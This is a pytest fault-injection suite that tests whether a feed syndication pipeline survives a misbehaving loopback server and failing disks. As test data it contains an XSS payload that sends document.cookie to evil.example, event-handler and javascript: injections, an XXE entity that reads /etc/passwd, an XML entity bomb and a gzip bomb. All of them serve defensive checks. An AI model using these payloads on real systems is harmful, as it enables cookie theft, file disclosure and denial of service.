"""The fault-injection suite (issue 5 "Done when"): the real pipeline against a loopback
server that misbehaves per request. For every fault: the run ends within its timeouts, the
feeds stay valid and keep every entry they had (and still take what the healthy source
brought), nothing unverified is published, the exit status and the stderr lines are right,
and the next normal run recovers.

Each test has three runs: a normal one (env feed: 263253; fr feed: 212649), the faulty one
(the FR source now also carries 209538, the fault hits the env source or everything), and a
normal one again. Faults that need root (a full or read-only filesystem) say so and skip
without it."""

from __future__ import annotations

import contextlib
import gzip
import io
import os
import re
import shutil
import socket
import struct
import subprocess
import threading
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from datetime import UTC, datetime, timedelta
from http.server import BaseHTTPRequestHandler
from pathlib import Path

import pytest

from syndication.pipeline import run

from .harness import (
    ENV,
    ENV_ID,
    ENV_PATH,
    FR_BOTH,
    FR_IDS,
    FR_PATH,
    Outcome,
    Site,
    all_feed_ids,
    assert_nothing_unverified,
    db_consistent,
    drive,
    entry_contents,
    snapshot,
)
from .server import Reply

# The files the faulty run has something new for (the FR source's 209538), in write order.
WRITTEN_AFTER_ENV_FAULT = ("fr.atom", "fr.rss", "fr.json", "both.atom", "both.rss",
                           "both.json", "index.html")
BASELINE = {"env": {ENV_ID}, "fr": {FR_IDS[0]}, "both": {ENV_ID, FR_IDS[0]}}
# What the feeds hold once the FR source brought 209538 and the env source failed.
AFTER_ENV_FAULT = {"env": {ENV_ID}, "fr": set(FR_IDS), "both": {ENV_ID, *FR_IDS}}
TIMEOUT = 0.5  # [fetch] timeout in the faulty runs
ENV_LINE = r"^syndication: http://127\.0\.0\.1:\d+/us/environment/articles\.atom: "


# --- misbehaving handlers -----------------------------------------------------------------


def send(h: BaseHTTPRequestHandler, status: int, body: bytes = b"",
         headers: dict[str, str] | None = None) -> None:
    h.send_response(status)
    h.send_header("Content-Length", str(len(body)))
    for k, v in (headers or {}).items():
        h.send_header(k, v)
    h.end_headers()
    with contextlib.suppress(OSError):
        h.wfile.write(body)


def status(code: int, headers: dict[str, str] | None = None) -> Reply:
    return Reply(handler=lambda h: send(h, code, b"error page", headers))


def then_ok(first: Reply, times: int = 1, body: bytes = ENV) -> Reply:
    """``first`` for the first ``times`` requests, then the recorded feed."""
    calls = {"n": 0}

    def handler(h: BaseHTTPRequestHandler) -> None:
        calls["n"] += 1
        if calls["n"] <= times and first.handler is not None:
            first.handler(h)
        else:
            send(h, 200, body, {"Content-Type": "application/atom+xml"})

    return Reply(handler=handler)


RELEASE = threading.Event()  # set at teardown: frees handlers that hang


def hang(h: BaseHTTPRequestHandler) -> None:
    """Accept the request and never answer (until the test ends)."""
    RELEASE.wait(30)
    h.close_connection = True


def drip(h: BaseHTTPRequestHandler) -> None:
    """Headers at once, then the body one byte every 50 ms: 6 minutes for the whole feed."""
    h.send_response(200)
    h.send_header("Content-Length", str(len(ENV)))
    h.end_headers()
    with contextlib.suppress(OSError):
        for i in range(len(ENV)):
            h.wfile.write(ENV[i:i + 1])
            h.wfile.flush()
            if RELEASE.wait(0.05):
                return


def drip_headers(h: BaseHTTPRequestHandler) -> None:
    """The status line, then one header a byte every 50 ms, each byte well within the
    timeout: requests' timeouts bound each read, so only a deadline on the whole exchange
    stops it (a 64 KiB header line takes an hour; http.client takes 100 of them)."""
    with contextlib.suppress(OSError):
        h.wfile.write(b"HTTP/1.1 200 OK\r\nContent-Type: application/atom+xml\r\nX-Slow: ")
        h.wfile.flush()
        while not RELEASE.wait(0.05):
            h.wfile.write(b"a")
            h.wfile.flush()
    h.close_connection = True


def reset(h: BaseHTTPRequestHandler) -> None:
    """Close with a TCP RST before answering."""
    h.connection.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
    h.connection.close()
    h.wfile = io.BytesIO()  # type: ignore[assignment]
    h.close_connection = True


def truncated(h: BaseHTTPRequestHandler) -> None:
    """Content-Length of the whole feed, then half of it and the connection closed."""
    h.send_response(200)
    h.send_header("Content-Length", str(len(ENV)))
    h.end_headers()
    h.wfile.write(ENV[: len(ENV) // 2])
    h.close_connection = True


def fifty_mb_declared(h: BaseHTTPRequestHandler) -> None:
    h.send_response(200)
    h.send_header("Content-Length", str(50 * 1024 * 1024))
    h.end_headers()
    with contextlib.suppress(OSError):
        h.wfile.write(ENV)
    h.close_connection = True


def fifty_mb_streamed(h: BaseHTTPRequestHandler) -> None:
    """50 MB, chunked, no Content-Length: only the streamed cap can stop it."""
    h.send_response(200)
    h.send_header("Transfer-Encoding", "chunked")
    h.end_headers()
    chunk = b"<!-- " + b"x" * (1024 * 1024 - 9) + b" -->"
    with contextlib.suppress(OSError):
        for _ in range(50):
            h.wfile.write(f"{len(chunk):x}\r\n".encode() + chunk + b"\r\n")
        h.wfile.write(b"0\r\n\r\n")
    h.close_connection = True


GZIP_BOMB = gzip.compress(ENV[:-8] + b"<!--" + b" " * 50_000_000 + b"-->\n</feed>\n")


def gzip_bomb(h: BaseHTTPRequestHandler) -> None:
    send(h, 200, GZIP_BOMB, {"Content-Encoding": "gzip", "Content-Type": "application/atom+xml"})


def redirect_to(location: str) -> Reply:
    return Reply(handler=lambda h: send(h, 302, b"", {"Location": location}))


def body(data: bytes, content_type: str = "application/atom+xml") -> Reply:
    return Reply(handler=lambda h: send(h, 200, data, {"Content-Type": content_type}))


ENTITY_BOMB = b"""<?xml version="1.0"?>
<!DOCTYPE feed [
 <!ENTITY a "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa">
 <!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">
 <!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">
 <!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;">
 <!ENTITY e "&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;">
 <!ENTITY f "&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;">
]>
<feed xmlns="http://www.w3.org/2005/Atom"><title>&f;</title></feed>
"""
# The recorded feed with an external entity in a title: a parser that obeyed it would put
# this machine's /etc/passwd into a published feed.
EXTERNAL_ENTITY = ENV.replace(
    b"<feed ", b'<!DOCTYPE feed [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n<feed ', 1
).replace(b"<title>How sea star", b"<title>&xxe;How sea star", 1)
# The recorded feed re-encoded as Windows-1252 while its declaration still says UTF-8.
WRONG_ENCODING = ENV.decode("utf-8").encode("cp1252")
# Declared ISO-8859-1 but sent as UTF-8: parses, into mojibake ("â€“" for the en dash).
MOJIBAKE = ENV.replace(b'encoding="UTF-8"', b'encoding="ISO-8859-1"', 1)
# The same feed, correctly declared and encoded as UTF-16: a transport change, accepted.
UTF16 = ENV.replace(b'encoding="UTF-8"', b'encoding="UTF-16"', 1).decode("utf-8").encode("utf-16")
# A newer version whose rights are no longer CC BY-ND: refused; the published one stays.
NOT_CC = ENV.replace("Licensed as Creative Commons – attribution, no derivatives.".encode(),
                     b"All rights reserved.", 1).replace(
    b"<updated>2025-09-26T12:30:52Z</updated>\n    <link", b"<updated>2025-09-27T08:00:00Z"
    b"</updated>\n    <link", 1)
assert NOT_CC.count(b"All rights reserved.") == 1
# Active content slipped into the article's HTML (markup only: not one word is added).
HOSTILE = (
    ENV.replace(b"&lt;p&gt;That balance",
                b"&lt;script&gt;document.location='https://evil.example/'+document.cookie"
                b"&lt;/script&gt;&lt;p onclick=\"steal()\"&gt;That balance", 1)
    .replace(b'&lt;a href="https://creoi.org/', b'&lt;a onmouseover="steal()" '
             b'href="javascript:steal()" data-was="https://creoi.org/', 1)
    .replace(b"&lt;p&gt;Their disappearance",
             b'&lt;img src="x" onerror="steal()"&gt;&lt;p&gt;Their disappearance', 1)
)
assert HOSTILE.count(b"steal()") == 4


def env_entry(old: bytes, new: bytes) -> bytes:
    """The recorded feed with ``old`` replaced by ``new`` inside its entry (issue 10)."""
    head, entry, rest = ENV.partition(b"<entry>")
    assert old in rest, old
    return head + entry + rest.replace(old, new, 1)


def env_dated(when: str) -> bytes:
    return env_entry(b"<updated>2025-09-26T12:30:52Z</updated>", f"<updated>{when}</updated>"
                     .encode())


ENV_LINK = (b"https://theconversation.com/how-sea-star-wasting-disease-transformed-the-west-"
            b"coasts-ecology-and-economy-263253")
# Permanent failures once (issue 10): each of these made every later run fail, or stopped
# one. Now the entry is refused with a line, the rest of the run goes on, and the next run
# with the entry gone (or mended) publishes everything new from every source.
ENTRY_LINE = ENV_LINE + r"entry 1: "
WITHDRAWN = {"env": set(), "fr": set(FR_IDS), "both": set(FR_IDS)}


def permanent_failure_faults() -> list[Fault]:
    faults = []
    for ref in ("&#xFFFF;", "&#xFFFE;", "&#x1b;", "&#x7;", "&#xFDD0;", "&#x10FFFF;"):
        faults.append(Fault(f"entry-holds-{ref[2:-1]}", on_env(body(env_entry(
            b"&lt;p&gt;That balance", b"&lt;p&gt;That" + ref.replace("&", "&amp;").encode()
            + b" balance"))), 1,
            (ENTRY_LINE + rf"<content> holds '{ref}' \(U\+[0-9A-F]+\) at character \d+, a "
             "character XML 1.0 forbids",)))
    for when in ("0001-01-01T00:00:00+01:00", "9999-12-31T23:59:59-01:00", "1969-12-31T23:00:00Z"):
        faults.append(Fault(f"entry-dated-{when[:4]}", on_env(body(env_dated(when))), 1,
                            (ENTRY_LINE + rf"article 263253: <updated> '{re.escape(when)}' is "
                             r"out of range",)))
    faults.append(Fault("entry-dated-next-year", on_env(body(env_dated(
        (datetime.now(UTC) + timedelta(days=365)).isoformat()))), 1,
        (ENTRY_LINE + r"article 263253: <updated> .* is in the future",)))
    for link in (b"javascript:alert(document.domain)//-263253",
                 b"data:text/html;base64,PHNjcmlwdD4=-263253",
                 b"https://evil.example/how-sea-star-263253"):
        faults.append(Fault(f"entry-link-{link[:10].decode().strip(':/')}",
                            on_env(body(env_entry(ENV_LINK, link))), 1,
                            (r"^syndication: article 263253 withdrawn from the feeds \(.*\): its "
                             r"new version fails source-link: link .* not",), feeds=WITHDRAWN))
    return faults


# --- the table of faults ------------------------------------------------------------------


@dataclass(frozen=True)
class Fault:
    name: str
    install: Callable[[Site], None]
    status: int  # the exit status of the faulty run
    lines: tuple[str, ...] = ()  # a regex per stderr line, in order (the whole stderr)
    feeds: dict[str, set[int]] = field(default_factory=lambda: AFTER_ENV_FAULT)
    within: float = 5.0  # seconds the faulty run may take (its timeouts and retries)
    waits: tuple[float, ...] | None = None  # the sleeps asked of the fetcher, if checked
    later: timedelta = timedelta(0)  # how long after the first run the faulty one starts
    recover_after: timedelta = timedelta(minutes=30)  # ... and the next normal one after it
    check: Callable[[Site, Outcome], None] | None = None
    # what the feeds hold after the next normal run, when not AFTER_ENV_FAULT
    recovered: dict[str, set[int]] | None = None


def on_env(reply: Reply) -> Callable[[Site], None]:
    return lambda site: site.fault(ENV_PATH, reply)


def no_passwd_anywhere(site: Site, _outcome: Outcome) -> None:
    with Path("/etc/passwd").open("rb") as fh:
        first_line = fh.readline().strip()
    for path in site.out.iterdir():
        assert first_line not in path.read_bytes()


def other_host_untouched(site: Site, _outcome: Outcome) -> None:
    assert site.server.requests_to("/elsewhere.atom") == []


def feeds_not_requested(site: Site, _outcome: Outcome) -> None:
    assert site.server.requests_to(ENV_PATH) == site.server.requests_to(FR_PATH) == []


FAULTS = [
    Fault("http-500", on_env(status(500)), 1,
          (ENV_LINE + r"HTTP 500, gave up after 2 tries$",), waits=(0.01,)),
    Fault("http-500-once", on_env(then_ok(status(500))), 0, waits=(0.01,)),
    Fault("http-404", on_env(status(404)), 1, (ENV_LINE + r"HTTP 404$",), waits=()),
    Fault("http-503-retry-after-seconds", on_env(then_ok(status(503, {"Retry-After": "3"}))),
          0, waits=(3.0,)),
    # the last Retry-After is obeyed by the next request to the host: the FR source
    Fault("http-503-retry-after-persistent", on_env(status(503, {"Retry-After": "2"})), 1,
          (ENV_LINE + r"HTTP 503, gave up after 2 tries$",), waits=(2.0, 2.0)),
    Fault("http-429-retry-after-seconds", on_env(then_ok(status(429, {"Retry-After": "5"}))),
          0, waits=(5.0,)),
    Fault("http-429-retry-after-date", on_env(then_ok(status(429, {
        "Retry-After": (datetime.now(UTC) + timedelta(seconds=20)).strftime(
            "%a, %d %b %Y %H:%M:%S GMT")}))), 0),
    Fault("timeout", on_env(Reply(handler=hang)), 1,
          (ENV_LINE + r"timed out after 0\.5 s, gave up after 2 tries$",),
          within=2 * TIMEOUT + 2),
    Fault("slow-drip", on_env(Reply(handler=drip)), 1,
          (ENV_LINE + r"body not complete after 0\.5 s, gave up after 2 tries$",),
          within=2 * TIMEOUT + 2),
    Fault("slow-headers", on_env(Reply(handler=drip_headers)), 1,
          (ENV_LINE + r"headers not complete after 0\.5 s, gave up after 2 tries$",),
          within=2 * (TIMEOUT + 1) + 2),
    Fault("connection-reset", on_env(Reply(handler=reset)), 1,
          (ENV_LINE + r"connection failed \(.*\), gave up after 2 tries$",)),
    Fault("connection-reset-once", on_env(then_ok(Reply(handler=reset))), 0),
    Fault("truncated-body", on_env(Reply(handler=truncated)), 1,
          (ENV_LINE + r"body incomplete \(.*\), gave up after 2 tries$",)),
    Fault("redirect-to-unconfigured-host",
          lambda site: site.fault(ENV_PATH, redirect_to(
              f"http://localhost:{site.server.httpd.server_address[1]}/elsewhere.atom")),
          1, (ENV_LINE + r"redirected to 'http://localhost:\d+/elsewhere\.atom': not a host "
              r"named in the configuration$",), check=other_host_untouched),
    Fault("redirect-loop", on_env(redirect_to(ENV_PATH)), 1,
          (ENV_LINE + r"more than 5 redirects$",)),
    Fault("50MB-declared", on_env(Reply(handler=fifty_mb_declared)), 1,
          (ENV_LINE + r"body of 52428800 bytes exceeds 10000000$",)),
    Fault("50MB-streamed", on_env(Reply(handler=fifty_mb_streamed)), 1,
          (ENV_LINE + r"body exceeds 10000000 bytes$",)),
    Fault("gzip-bomb", on_env(Reply(handler=gzip_bomb)), 1,
          (ENV_LINE + r"body exceeds 10000000 bytes$",)),
    Fault("malformed-xml", on_env(body(ENV[: len(ENV) // 2])), 1,
          (ENV_LINE + r"not well-formed XML \(.*\)$",)),
    Fault("empty-body", on_env(body(b"")), 1, (ENV_LINE + r"not well-formed XML \(.*\)$",)),
    Fault("html-not-atom", on_env(body(b"<html><body>Maintenance</body></html>",
                                       "text/html")), 1,
          (ENV_LINE + r"not an Atom feed \(root element is 'html'\)$",)),
    Fault("xml-entity-bomb", on_env(body(ENTITY_BOMB)), 1,
          (ENV_LINE + r"refused unsafe XML \(DTDForbidden: .*\)$",)),
    Fault("xml-external-entity", on_env(body(EXTERNAL_ENTITY)), 1,
          (ENV_LINE + r"refused unsafe XML \(DTDForbidden: .*\)$",), check=no_passwd_anywhere),
    Fault("wrong-encoding-cp1252-declared-utf8", on_env(body(WRONG_ENCODING)), 1,
          (ENV_LINE + r"not well-formed XML \(not well-formed \(invalid token\).*\)$",)),
    Fault("wrong-encoding-mojibake", on_env(body(MOJIBAKE)), 1,
          (ENV_LINE + r"declares encoding 'ISO-8859-1' but its bytes are UTF-8: .* refused$",)),
    Fault("wrong-encoding-utf16-declared", on_env(body(UTF16)), 0),
    # Not a loss but the corrections policy: a newer version that fails a rule (here the
    # licence) is withdrawn from the feeds, with one line saying so; the older version
    # served again after it is a stale copy, which brings nothing back (update.plan).
    Fault("new-version-refused-withdrawn", on_env(body(NOT_CC)), 1,
          (r"^syndication: article 263253 withdrawn from the feeds \(.*\): its new version "
           r"fails licence: the source's licence is not CC BY-ND",),
          feeds=WITHDRAWN, recovered=WITHDRAWN),
    Fault("hostile-html", on_env(body(HOSTILE)), 0),
    Fault("robots-disallows-us",
          lambda site: site.server.serve("/robots.txt",
                                         "User-agent: syndication-tests\nDisallow: /\n",
                                         content_type="text/plain"),
          1, (ENV_LINE + r"http://127\.0\.0\.1:\d+/robots\.txt does not allow "
              r"'syndication-tests' to fetch", r"^syndication: http://127\.0\.0\.1:\d+/fr/.*"
              r"robots\.txt does not allow"),
          feeds=BASELINE, later=timedelta(days=1, minutes=1), check=feeds_not_requested,
          recover_after=timedelta(days=1, minutes=1)),
    Fault("robots-500-stale-copy-used",
          lambda site: site.fault("/robots.txt", status(500)), 0,
          later=timedelta(days=1, minutes=1)),
    *permanent_failure_faults(),
]


@pytest.fixture
def site(server, tmp_path) -> Iterator[Site]:
    RELEASE.clear()
    yield Site(server, tmp_path, fetch={"timeout": TIMEOUT})
    RELEASE.set()


class Clock:
    def __init__(self) -> None:
        self.now = datetime.now(UTC)

    def __call__(self) -> datetime:
        return self.now


def three_runs(site: Site, capsys, fault: Fault | None, *, before_fault=None,
               after_fault=None) -> Outcome:
    """Normal run, faulty run (checked), normal run (checked); returns the faulty outcome."""
    clock = Clock()
    first = drive(site.config(), capsys, clock=clock)
    assert (first.status, first.stderr) == (0, "")
    assert {k.split(".")[0]: v for k, v in all_feed_ids(site.out).items()} == BASELINE
    site.normal()  # the FR source now carries 209538 too
    if fault is not None:
        fault.install(site)
        clock.now += fault.later
    if before_fault:
        before_fault()
    site.server.requests.clear()
    faulty = drive(site.config(), capsys, clock=clock)
    if after_fault:
        after_fault()

    if fault is not None:
        assert faulty.seconds < fault.within, faulty.seconds
        assert faulty.status == fault.status, faulty.stderr
        assert len(faulty.lines) == len(fault.lines), faulty.stderr
        for line, pattern in zip(faulty.lines, fault.lines, strict=True):
            assert re.search(pattern, line), (pattern, line)
        if fault.waits is not None:
            # a wait carried over to the next request is what remains of it after the real
            # time in between (milliseconds; more on a loaded machine)
            assert faulty.waits == pytest.approx(list(fault.waits), abs=0.05)
        ids = all_feed_ids(site.out)  # every file a valid feed
        for name, expected in fault.feeds.items():
            assert ids[f"{name}.atom"] == ids[f"{name}.rss"] == expected, name
        assert_nothing_unverified(site.out, site.state)
        db_consistent(site.state)
        if fault.check:
            fault.check(site, faulty)

    # the next normal run recovers
    site.normal()
    clock.now += fault.recover_after if fault else timedelta(minutes=30)
    recovered = drive(site.config(), capsys, clock=clock)
    assert (recovered.status, recovered.stderr) == (0, "")
    assert {k.split(".")[0]: v for k, v in all_feed_ids(site.out).items()} == (
        fault.recovered if fault and fault.recovered is not None else AFTER_ENV_FAULT)
    assert_nothing_unverified(site.out, site.state)
    db_consistent(site.state)
    return faulty


@pytest.mark.parametrize("fault", FAULTS, ids=[f.name for f in FAULTS])
def test_fault(site, capsys, fault):
    three_runs(site, capsys, fault)


def test_hostile_html_is_never_published(site, capsys):
    fault = next(f for f in FAULTS if f.name == "hostile-html")
    faulty = three_runs(site, capsys, fault)
    # the new version went through republish and the checker: sanitised, then verified
    assert faulty.report is not None
    assert [(a.article_id, str(a.outcome)) for a in faulty.report.articles
            if a.article_id == ENV_ID] == [(ENV_ID, "published")]
    for path in site.out.iterdir():
        data = path.read_bytes().lower()
        for needle in (b"steal()", b"javascript:", b"onerror", b"onclick", b"onmouseover",
                       b"&lt;script", b"evil.example"):
            assert needle not in data, (path.name, needle)


def test_withdrawal_reported_once(site, capsys):
    fault = next(f for f in FAULTS if f.name == "new-version-refused-withdrawn")
    three_runs(site, capsys, fault)
    # the older version served again did not bring it back (a stale copy)
    assert entry_contents(site.out / "env.atom") == []
    # the same refused version served again is not reported again, and changes nothing
    site.fault(ENV_PATH, body(NOT_CC))
    again = drive(site.config(), capsys)
    assert (again.status, again.stderr) == (0, "")
    assert entry_contents(site.out / "env.atom") == []


def test_retry_after_beyond_max_wait_leaves_the_host_alone_until_then(site, capsys):
    clock = Clock()
    assert drive(site.config(), capsys, clock=clock).status == 0
    site.normal()
    site.fault(FR_PATH, status(503, {"Retry-After": "7200"}))
    faulty = drive(site.config(), capsys, clock=clock)
    assert faulty.status == 1 and faulty.waits == []
    assert re.search(r"fr/environnement/articles\.atom: HTTP 503, Retry-After 7200 s is more "
                     r"than max_wait 30 s: 127\.0\.0\.1 is left alone until", faulty.stderr)
    # half an hour later the host is not contacted at all; feeds keep what they had
    site.normal()
    site.server.requests.clear()
    clock.now += timedelta(minutes=30)
    waiting = drive(site.config(), capsys, clock=clock)
    assert waiting.status == 1 and site.server.requests == []
    assert len(waiting.lines) == 2 and all("asked us (Retry-After) to wait" in line
                                            for line in waiting.lines)
    assert {k.split(".")[0]: v for k, v in all_feed_ids(site.out).items()} == BASELINE
    # two hours later it is, and all is well
    clock.now += timedelta(hours=2)
    assert (drive(site.config(), capsys, clock=clock).status) == 0
    assert {k.split(".")[0]: v for k, v in all_feed_ids(site.out).items()} == AFTER_ENV_FAULT


@pytest.mark.parametrize("retry_after", ["99999999999999999999", "10000000000000",
                                         "Fri, 31 Dec 9999 23:59:59 GMT",
                                         "Fri, 31 Dec 9999 23:59:59 -2359"])
def test_a_retry_after_at_the_end_of_time_is_a_day(site, capsys, retry_after):
    """Such a Retry-After stopped the whole run (OverflowError), or left the host alone
    until the year 9999: now it is one line, and the host is asked again a day later."""
    clock = Clock()
    assert drive(site.config(), capsys, clock=clock).status == 0
    site.normal()
    site.fault(FR_PATH, status(503, {"Retry-After": retry_after}))
    faulty = drive(site.config(), capsys, clock=clock)
    assert faulty.status == 1 and len(faulty.lines) == 1, faulty.stderr
    assert re.search(r"HTTP 503, Retry-After 86400 s is more than max_wait 30 s: 127\.0\.0\.1 "
                     r"is left alone until", faulty.stderr)
    assert [s.ok for s in faulty.report.sources] == [True, False]  # the run went on
    site.normal()
    clock.now += timedelta(days=1, minutes=1)
    assert drive(site.config(), capsys, clock=clock).status == 0
    assert {k.split(".")[0]: v for k, v in all_feed_ids(site.out).items()} == AFTER_ENV_FAULT


def test_an_unforeseen_error_in_one_source_stops_only_that_source(site, capsys, monkeypatch):
    """A bug, or an answer no check foresaw, while reading one source: that source fails
    with one line, every other source is read and every feed written (before, it stopped
    the whole run: an OverflowError from a Retry-After did)."""
    from syndication import source

    real = source.parse_feed

    def parse(body, url, **kwargs):
        if "fr/" in url:
            raise OverflowError("date value out of range")
        return real(body, url, **kwargs)

    assert drive(site.config(), capsys).status == 0
    site.normal()
    monkeypatch.setattr(source, "parse_feed", parse)
    faulty = drive(site.config(), capsys)
    assert faulty.status == 1 and len(faulty.lines) == 1, faulty.stderr
    assert re.search(r"fr/environnement/articles\.atom: could not be read \(OverflowError: "
                     r"date value out of range\)$", faulty.lines[0])
    assert [s.ok for s in faulty.report.sources] == [True, False]
    monkeypatch.setattr(source, "parse_feed", real)
    assert drive(site.config(), capsys).status == 0
    assert {k.split(".")[0]: v for k, v in all_feed_ids(site.out).items()} == AFTER_ENV_FAULT


def test_robots_unreachable_on_first_run_disallows_everything(site, capsys):
    site.normal()
    site.fault("/robots.txt", status(503))
    first = drive(site.config(), capsys)
    assert first.status == 1 and len(first.lines) == 2, first.stderr
    assert all(re.search(r"robots\.txt unreachable .*HTTP 503.*RFC 9309", line)
               for line in first.lines)
    assert site.server.requests_to(ENV_PATH) == site.server.requests_to(FR_PATH) == []
    assert all(ids == set() for ids in all_feed_ids(site.out).values())  # valid, empty
    site.normal()
    assert drive(site.config(), capsys).status == 0
    assert {k.split(".")[0]: v for k, v in all_feed_ids(site.out).items()} == AFTER_ENV_FAULT


def test_a_skipped_entry_is_one_line_and_the_others_publish(site, capsys):
    # the second FR entry without its <id> and its link: nothing says which article it is
    head, _, rest = FR_BOTH.partition(b"<id>tag:theconversation.com,2011:article/209538</id>")
    broken = head + re.sub(rb'<link rel="alternate"[^>]*/>', b"", rest, count=1)
    site.normal(fr=broken)
    outcome = drive(site.config(), capsys)
    assert outcome.status == 1 and len(outcome.lines) == 1
    assert re.search(r"fr/environnement/articles\.atom: entry 2: ", outcome.stderr)
    assert all_feed_ids(site.out)["fr.atom"] == {FR_IDS[0]}


# --- the machine: read-only output, full disk ---------------------------------------------


def can_mount() -> bool:
    return os.geteuid() == 0 and shutil.which("mount") is not None


@contextlib.contextmanager
def tmpfs(path: Path, size: str) -> Iterator[None]:
    path.mkdir(parents=True, exist_ok=True)
    done = subprocess.run(["mount", "-t", "tmpfs", "-o", f"size={size},mode=0755", "tmpfs",
                           str(path)], capture_output=True, text=True, check=False)
    if done.returncode != 0:
        pytest.skip(f"cannot mount a tmpfs here: {done.stderr.strip()}")
    try:
        yield
    finally:
        subprocess.run(["umount", "-l", str(path)], check=False)


def test_output_dir_read_only(site, capsys):
    """A read-only output folder: a read-only tmpfs when we are root (root ignores file
    modes), else a folder without write permission."""
    if can_mount():
        stack = contextlib.ExitStack()
        stack.enter_context(tmpfs(site.out, "4m"))

        def make_read_only() -> None:
            subprocess.run(["mount", "-o", "remount,ro", str(site.out)], check=True)

        def make_writable() -> None:
            subprocess.run(["mount", "-o", "remount,rw", str(site.out)], check=True)
    elif os.geteuid() != 0:
        stack = contextlib.ExitStack()

        def make_read_only() -> None:
            site.out.chmod(0o555)

        def make_writable() -> None:
            site.out.chmod(0o755)
    else:
        pytest.skip("root without mount: cannot make a folder read-only")
    with stack:
        before: dict[str, tuple[int, int, bytes]] = {}

        def freeze() -> None:
            make_read_only()
            before.update(snapshot(site.out))

        def check_and_thaw() -> None:
            assert snapshot(site.out) == before  # the previous feeds, untouched
            make_writable()

        fault = Fault("output-dir-read-only", lambda site: None, 1,
                      tuple(rf"^syndication: .*/out/{name}: cannot write \(Read-only file "
                            r"system|Permission denied\); the previous file is unchanged$"
                            for name in WRITTEN_AFTER_ENV_FAULT),
                      feeds=BASELINE)
        three_runs(site, capsys, fault, before_fault=freeze, after_fault=check_and_thaw)


@pytest.mark.skipif(not can_mount(), reason="needs root to mount a small tmpfs (a real full "
                    "filesystem); ENOSPC is not simulated")
def test_disk_full(site, capsys):
    """A real full filesystem: a 1 MiB tmpfs as output_dir, filled up after the first run."""
    with tmpfs(site.out, "1m"):
        filler = site.out / ".filler"

        def fill() -> None:
            with filler.open("wb", buffering=0) as fh, contextlib.suppress(OSError):
                while True:
                    fh.write(b"\0" * 4096)

        def free() -> None:
            filler.unlink()

        fault = Fault("disk-full", lambda site: None, 1,
                      tuple(rf"^syndication: .*/out/{name}: cannot write \(No space left on "
                            r"device\); the previous file is unchanged$"
                            for name in WRITTEN_AFTER_ENV_FAULT),
                      feeds=BASELINE)
        three_runs(site, capsys, fault, before_fault=fill, after_fault=free)
        assert not list(site.out.glob(".*.tmp"))  # no half-written temporary file left


def test_state_database_unwritable_is_one_clear_line(site, capsys, tmp_path):
    """The state database on a read-only filesystem: the run stops before publishing
    anything, with one line naming the file; the feeds stay as they were."""
    if not can_mount():
        pytest.skip("needs root to mount a read-only tmpfs for the database")
    state_dir = tmp_path / "state"
    with tmpfs(state_dir, "4m"):
        config_text = site.config_path().read_text().replace(
            str(site.state), str(state_dir / "state.sqlite3"))
        site.config_path().write_text(config_text)
        from syndication.config import load_config

        config = load_config(site.tmp / "config.toml")
        assert drive(config, capsys).status == 0
        before = snapshot(site.out)
        subprocess.run(["mount", "-o", "remount,ro", str(state_dir)], check=True)
        outcome = drive(config, capsys)
        subprocess.run(["mount", "-o", "remount,rw", str(state_dir)], check=True)
        assert outcome.status == 1 and len(outcome.lines) == 1
        assert re.search(r"state\.sqlite3(\.lock)?: .*Read-only file system", outcome.stderr)
        assert snapshot(site.out) == before
        assert drive(config, capsys).status == 0


def test_run_api_keeps_working_without_the_cli(site):
    """The library call (no CLI) reports a fault in its RunReport, it does not raise."""
    site.fault(ENV_PATH, status(500))
    report = run(site.config(), sleep=lambda s: None)
    assert not report.ok
    assert [s.ok for s in report.sources] == [False, True]
    assert report.failures()[0].endswith("HTTP 500, gave up after 2 tries")
